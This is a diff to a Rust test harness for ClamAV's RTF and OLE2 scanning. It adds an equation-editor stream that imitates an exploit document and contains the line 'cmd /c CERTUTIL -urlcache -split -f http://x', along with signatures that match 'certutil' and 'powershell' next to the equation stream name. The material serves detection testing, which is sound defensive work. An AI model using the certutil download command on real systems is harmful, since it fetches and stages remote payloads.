@@ -34,6 +34,11 @@ fn clamav_rtf_objects() {
             .unwrap()
             .write_all(&[b'w'; 600])
             .unwrap();
+        // An equation-editor object of the kind RTF exploit documents carry.
+        c.create_stream("/Equation Native")
+            .unwrap()
+            .write_all(b"\x1c\x00\x00\x00\x02\x00cmd /c CERTUTIL -urlcache -split -f http://x")
+            .unwrap();
         c.create_stream("/\u{1}Ole10Native")
             .unwrap()
             .write_all(&ole10)
@@ -78,6 +83,17 @@ fn clamav_rtf_objects() {
         )
         .unwrap();
     }
+    // Target-2 signatures for OLE2 objects inside RTF, as third-party sets write them: a
+    // command word and the equation editor's stream name (UTF-16 in the directory).
+    for (name, word) in [("certutil", "certutil"), ("powershell", "powershell")] {
+        writeln!(
+            ldb,
+            "E.{name};Engine:81-255,Container:CL_TYPE_RTF,Target:2;0&1;{}::i;{}::iaw",
+            hex(word.as_bytes()),
+            hex(b"equation")
+        )
+        .unwrap();
+    }
     let db = tmp.path().join("db");
     fs::create_dir_all(&db).unwrap();
     fs::write(db.join("t.ndb"), &ndb).unwrap();
@@ -96,6 +112,7 @@ fn clamav_rtf_objects() {
         ("two.rtf", "H.second"),
         ("ole2.rtf", "H.inner"),
         ("spaced.rtf", "L.RTF-SPACED-R7"),
+        ("ole2.rtf", "E.certutil"),
     ] {
         assert!(
             has(file, s),
@@ -105,6 +122,7 @@ fn clamav_rtf_objects() {
     for (file, s) in [
         ("longclass.rtf", "L.RTF-LONGCLASS-R5"),
         ("newline.rtf", "L.RTF-NEWLINE-R6"),
+        ("ole2.rtf", "E.powershell"),
     ] {
         assert!(!has(file, s), "harness: clamscan finds {s} in {file}");
     }
